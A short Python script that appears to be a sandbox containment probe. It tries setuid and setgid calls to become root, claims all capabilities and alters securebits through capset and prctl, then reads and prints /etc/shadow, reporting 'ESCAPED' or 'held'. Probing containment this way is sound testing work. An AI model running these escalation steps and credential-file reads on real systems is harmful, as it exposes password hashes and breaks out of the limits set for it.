# Takes other identities and capabilities, then reads the password file.
import ctypes, os
got = []
libc = ctypes.CDLL(None, use_errno=True)
before = os.getresuid()
for way in (lambda: os.setuid(0), lambda: os.setreuid(0, 0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresgid(0, 0, 0), lambda: os.seteuid(0)):
    try:
        way()
    except OSError:
        pass
if os.getresuid() != before:
    got.append(os.getresuid())
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
if libc.capset(header, data) == 0:
    got.append("capset")
if libc.prctl(47, 2, 21, 0, 0) == 0:
    got.append("ambient")
if libc.prctl(28, 0x2F, 0, 0, 0) == 0:
    got.append("securebits")
if libc.prctl(38, 0, 0, 0, 0) == 0:
    got.append("no_new_privs off")
now = (ctypes.c_uint32 * 6)()
if libc.capget(header, now) == 0 and (now[0] or now[3]):
    got.append(("capabilities", hex(now[0]), hex(now[3])))
try:
    got.append(open("/etc/shadow").read())
except OSError:
    pass
print("ESCAPED", *got) if got else print("held")
